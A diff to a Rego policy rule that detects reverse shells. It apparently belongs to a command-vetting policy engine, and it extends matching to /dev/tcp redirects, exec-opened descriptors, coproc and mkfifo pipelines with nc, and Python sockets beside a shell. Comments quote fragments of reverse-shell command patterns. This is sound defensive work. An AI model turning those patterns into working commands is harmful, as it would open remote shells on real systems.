@@ -1,7 +1,8 @@
 # METADATA
 # title: A shell bound to a network connection
 # description: whoever is at the other end types into it
-# related_resources: []
+# related_resources:
+#   - https://attack.mitre.org/techniques/T1059/
 # custom:
 #   id: network.reverse-shell
 #   severity: critical
@@ -10,14 +11,41 @@
 package interlock.rules.network["reverse-shell"]
 
 import data.interlock.lib
+import data.interlock.tables
+
+mode := lib.mode(rego.metadata.chain())
+
+# Shells and interpreters of the action, looked for only where it touches the network at all.
+interpreters contains id if {
+	count(input.facts.network) > 0
+	some name, ids in input.facts.index.commands
+	tables.shells[name]
+	some id in ids
+}
 
 deny contains lib.reason(rego.metadata.chain(), message, [command]) if {
-	some name in {"bash", "sh", "dash", "zsh", "ksh", "python", "python3", "perl", "ruby", "php", "node", "lua"}
-	some id in input.facts.index.commands[name]
+	some id in interpreters
 	command := input.facts.commands[id]
 	some redirect in command.redirects
-	regex.match(`^/dev/(tcp|udp)/`, redirect.target.text)
-	message := sprintf("`%s` is connected to %s", [name, redirect.target.text])
+	leads_out(redirect)
+	message := sprintf("`%s` is connected to %s", [command.basename, lib.shown(redirect.target)])
+}
+
+leads_out(redirect) if regex.match(`^/dev/(tcp|udp)/`, redirect.target.text)
+
+# `exec 5<>/dev/tcp/…` before, `<&5` here.
+leads_out(redirect) if {
+	redirect.op in {"<&", ">&"}
+	some id in input.facts.index.commands.exec
+	some opened in input.facts.commands[id].redirects
+	regex.match(`^/dev/(tcp|udp)/`, opened.target.text)
+	lib.may_equal(redirect.target, sprintf("%d", [opened.fd]))
+}
+
+# A descriptor nobody knows, beside a connection: `coproc nc …; bash <&${COPROC[0]}`.
+leads_out(redirect) if {
+	redirect.op == "<&"
+	redirect.target.kind != "literal"
 }
 
 deny contains lib.reason(rego.metadata.chain(), message, [effect]) if {
@@ -25,7 +53,7 @@ deny contains lib.reason(rego.metadata.chain(), message, [effect]) if {
 	some id in input.facts.index.network[op]
 	effect := input.facts.network[id]
 	effect.flows_to == "interpreter"
-	message := "a shell is bound to a network connection"
+	message := sprintf("a shell is bound to a connection with %s", [lib.shown(effect.host)])
 }
 
 # mkfifo f; sh < f | nc host port > f
@@ -34,6 +62,27 @@ deny contains lib.reason(rego.metadata.chain(), message, [command]) if {
 	some id in input.facts.index.commands[name]
 	command := input.facts.commands[id]
 	some before in command.stdin.commands
-	input.facts.commands[before].basename in {"bash", "sh", "dash", "zsh", "ksh"}
+	input.facts.commands[before].basename in {"bash", "sh", "dash", "zsh", "ksh", "ash"}
+	interactive(before)
 	message := sprintf("the output of a shell goes to `%s`", [name])
+}
+
+# A program's own socket, and a shell that reads from whoever is there.
+deny contains lib.reason(rego.metadata.chain(), message, [effect, code]) if {
+	some name in {"socket.socket.connect", "socket.socket.connect_ex", "socket.create_connection", "socket.socket.accept"}
+	some call in input.facts.index.callees[name]
+	some op in {"connect", "listen"}
+	some id in input.facts.index.network[op]
+	effect := input.facts.network[id]
+	effect.by.call == call
+	some shell in input.facts.index.code.none
+	code := input.facts.code[shell]
+	message := sprintf("a shell without a program starts beside a connection with %s", [lib.shown(effect.host)])
+}
+
+# Not `bash -c 'echo hi' | nc`: that shell reads nobody's words.
+interactive(command) if {
+	some code in input.facts.code
+	code.by.command == command
+	code.source != "literal"
 }
